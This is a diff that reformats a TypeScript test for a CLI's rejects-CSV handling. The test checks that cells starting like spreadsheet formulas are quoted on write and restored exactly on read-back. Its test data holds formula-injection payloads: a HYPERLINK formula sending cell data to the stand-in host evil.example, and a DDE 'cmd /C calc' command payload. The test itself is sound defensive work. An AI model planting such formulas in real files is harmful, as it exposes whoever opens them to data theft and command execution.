@@ -18,7 +18,16 @@ async function service(reply: Reply) {
   return server;
 }
 
-const HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', `=cmd|' /C calc'!A0`, '+1+1', '@SUM(A1:A9)', '-2+3', '\t=1', `'already quoted`, '-12.50'];
+const HOSTILE = [
+  '=HYPERLINK("http://evil.example/?x="&A1,"click")',
+  `=cmd|' /C calc'!A0`,
+  '+1+1',
+  '@SUM(A1:A9)',
+  '-2+3',
+  '\t=1',
+  `'already quoted`,
+  '-12.50',
+];
 
 describe('--rejects CSV and spreadsheet formulas', () => {
   it('writes formula cells with a leading quote, and reading the rejects file back restores them exactly', async () => {
@@ -26,7 +35,18 @@ describe('--rejects CSV and spreadsheet formulas', () => {
     const rows = HOSTILE.map((reason, n) => `S${n},declined,"${reason.replace(/"/g, '""')}"`);
     writeFileSync(join(dir, 'status.csv'), `id,status,status_reason\n${rows.join('\n')}\n`);
     const refusing = await service({ status: 400, body: { error_message: '=HYPERLINK("x")' } });
-    const first = await runCli(['status', join(dir, 'status.csv'), '--base-url', refusing.url, '--no-state', '--rejects', join(dir, 'rejects.csv')], { env });
+    const first = await runCli(
+      [
+        'status',
+        join(dir, 'status.csv'),
+        '--base-url',
+        refusing.url,
+        '--no-state',
+        '--rejects',
+        join(dir, 'rejects.csv'),
+      ],
+      { env },
+    );
     expect(first.code).toBe(1);
     const sent = refusing.requests.map((request) => JSON.parse(request.body).status_reason as string);
     expect(sent.sort()).toEqual([...HOSTILE].sort());
@@ -39,9 +59,14 @@ describe('--rejects CSV and spreadsheet formulas', () => {
     expect(written).toContain(`,''already quoted,`);
 
     const accepting = await service({ status: 200, body: { message: 'ok' } });
-    const again = await runCli(['status', join(dir, 'rejects.csv'), '--base-url', accepting.url, '--no-state'], { env });
+    const again = await runCli(
+      ['status', join(dir, 'rejects.csv'), '--base-url', accepting.url, '--no-state'],
+      { env },
+    );
     expect(again.code).toBe(0);
-    const resent = accepting.requests.map((request) => JSON.parse(request.body) as { id: string; status_reason: string });
+    const resent = accepting.requests.map(
+      (request) => JSON.parse(request.body) as { id: string; status_reason: string },
+    );
     expect(resent.map((body) => body.status_reason).sort()).toEqual([...HOSTILE].sort());
   });
 
@@ -49,8 +74,15 @@ describe('--rejects CSV and spreadsheet formulas', () => {
     const dir = mkdtempSync(join(tmpdir(), 'collect-formula-'));
     writeFileSync(join(dir, 'status.csv'), "id,status,status_reason\nA,declined,'quoted\n");
     const accepting = await service({ status: 200, body: { message: 'ok' } });
-    const result = await runCli(['status', join(dir, 'status.csv'), '--base-url', accepting.url, '--no-state'], { env });
+    const result = await runCli(
+      ['status', join(dir, 'status.csv'), '--base-url', accepting.url, '--no-state'],
+      { env },
+    );
     expect(result.code).toBe(0);
-    expect(JSON.parse(accepting.requests[0]!.body)).toEqual({ id: 'A', status: 'declined', status_reason: "'quoted" });
+    expect(JSON.parse(accepting.requests[0]!.body)).toEqual({
+      id: 'A',
+      status: 'declined',
+      status_reason: "'quoted",
+    });
   });
 });
